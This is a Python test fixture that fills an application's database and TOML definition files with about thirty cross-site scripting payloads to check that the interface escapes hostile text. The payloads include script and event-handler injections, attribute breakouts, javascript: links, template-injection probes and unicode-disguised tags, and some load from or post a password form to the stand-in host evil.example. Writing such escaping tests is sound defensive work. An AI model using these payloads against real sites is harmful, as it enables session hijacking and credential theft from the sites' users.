"""Texts that people could write to have a script run in somebody else's browser; and a file full of them."""

import json
import tomllib
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from kr_app.rights import Grant, Role
from kr_app.store import people
from kr_app.store.doors import writing
from kr_app.store.files import prepare
from kr_core.log import Kind
from tests.app.cast import someone
from tests.app.entries import CODE, FIRST, HOST, ticked, written
from tests.app.links import Made, linked
from tests.app.people import SignedIn

# At most 100 characters each, for the shortest field. Whatever becomes an element carries `data-evil`, leads to
# evil.example, or sets `window.__pwned`.
PAYLOADS = [
    "<script data-evil>window.__pwned=1</script>",
    "<img src=x data-evil onerror=window.__pwned=1>",
    "<svg data-evil onload=window.__pwned=1>",
    "<svg data-evil><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<iframe data-evil srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<a data-evil href=javascript:window.__pwned=1 autofocus onfocus=window.__pwned=1>x</a>",
    "<details data-evil open ontoggle=window.__pwned=1>",
    "<video data-evil><source onerror=window.__pwned=1></video>",
    "<math data-evil><mtext><img src=x onerror=window.__pwned=1></math>",
    "<object data-evil data=http://evil.example/x></object>",
    "<link data-evil rel=stylesheet href=http://evil.example/x.css>",
    "<base data-evil href=http://evil.example/>",
    "<form data-evil action=http://evil.example/><input name=password>",
    "<style data-evil>@import 'http://evil.example/x.css';*{display:none}</style>",
    "<p data-evil style=\"background:url('http://evil.example/x')\">x</p>",
    "\"><img src=x data-evil onerror=window.__pwned=1>",
    "' onmouseover=window.__pwned=1 data-evil='",
    "</title></style></textarea></script><img src=x data-evil onerror=window.__pwned=1>",
    "<!--><img src=x data-evil onerror=window.__pwned=1>-->",
    "<template data-evil id=kr-later><script>window.__pwned=1</script></template>",
    "<div id=root data-evil></div><div id=kr-first name=body data-evil></div>",
    "[link](javascript:window.__pwned=1) [out](http://evil.example/x)",
    "![image](http://evil.example/x.png) <http://evil.example/auto>",
    ":red[pwned] :material/bomb: :streamlit: :blue-background[pwned]",
    "$\\href{http://evil.example/x}{pwned}$ $$\\frac{1337}{7}$$",
    "{{7*191}} {% for x in y %} ${7*191} #{7*191} {0.__class__} %(x)s %{customdata}",
    "<b data-evil>x</b><a data-evil href='http://evil.example/x'>plotly</a><br>",
    "javascript:window.__pwned=1//http://evil.example/x",
    "\u202e<\u200bscript\u200b>window.__pwned=1</script>＜img src=x onerror=window.__pwned=1＞",
    "<ſcript data-evil>window.__pwned=1</ſcript><İmg src=x data-evil onerror=window.__pwned=1>",
]  # fmt: skip
# Texts of a definition that are words, not names that the product computes with.
_COMPUTED = {"code", "roll_up", "role", "id"}


@dataclass(frozen=True)
class Hostile:
    """Who and what is in the file: an administrator, people by their numbers, and a link for every text."""

    admin: SignedIn
    people: list[int]
    links: list[Made]


def seeded(folder: Path) -> Hostile:
    """A file in which every free text is hostile, and definitions that are."""
    file = folder / "kr.db"
    prepare(file)
    _definitions(folder / "definitions")
    admin = someone(file, "admin", Grant(Role.ADMIN))
    numbers = []
    with writing(file) as door:
        people.describe(door, admin.person, PAYLOADS[1], PAYLOADS[0], issuer="", subject="")
        for number, text in enumerate(PAYLOADS):
            person = people.add(door, f"{number:02}{text}"[:100], text, f"{text} {text}"[:200], datetime.now(UTC))
            people.set_grants(door, person, [Grant(Role.COORDINATOR, code=text[:64]), Grant(Role.ADMIN)])
            people.describe(door, person, text, text, issuer=f"{text}{number}", subject=text)
            numbers.append(person)
    for number, text in enumerate(PAYLOADS):
        actor, level = f"person:{numbers[number]}", 1 + number % 5
        tick = ticked(file, level, actor=actor, note=text)
        if number < len(PAYLOADS) - 5:
            written(file, Kind.WITHDRAW, level, actor=actor, note=f"{text} {uuid.uuid4()}", refers_to=tick.id)
    links = [linked(file, admin.person, title=text) for text in PAYLOADS]
    return Hostile(admin, numbers, links)


def _definitions(folder: Path) -> None:
    folder.mkdir()
    plain = tomllib.loads(FIRST.read_text(encoding="utf-8"))
    queue = iter(PAYLOADS * 10)
    (folder / "first.toml").write_text(_toml(_spoilt(plain, queue)), encoding="utf-8")
    assert plain["code"] == CODE
    assert plain["agencies"][0]["id"] == HOST
    name = "<img src=x data-evil onerror=window.__pwned=1>.toml"
    (folder / name).write_text(f"code = {json.dumps(PAYLOADS[0])}\nname = 3\n", encoding="utf-8")
    (folder / "zz.toml").write_text(f"name = {json.dumps(PAYLOADS[1])}\n[x]\n[x]\n", encoding="utf-8")


def _spoilt(value: Any, queue: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        rule = "percent" in value or key == "rule"
        return {k: v if k in _COMPUTED or (rule and k == "name") else _spoilt(v, queue, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_spoilt(each, queue, key) for each in value]
    if isinstance(value, str) and not value.startswith("25"):
        return f"{value} {next(queue)}"
    return value


def _toml(value: dict[str, Any]) -> str:
    lines = [f"{key} = {_text(each)}" for key, each in value.items() if not _is_table(each)]
    for key, each in value.items():
        for table in each if isinstance(each, list) and _is_table(each) else [each] if isinstance(each, dict) else []:
            lines += [f"[[{key}]]" if isinstance(each, list) else f"[{key}]", _toml(table)]
    return "\n".join(lines) + "\n"


def _is_table(value: Any) -> bool:
    return isinstance(value, dict) or (isinstance(value, list) and bool(value) and isinstance(value[0], dict))


def _text(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False) if not hasattr(value, "isoformat") else value.isoformat()
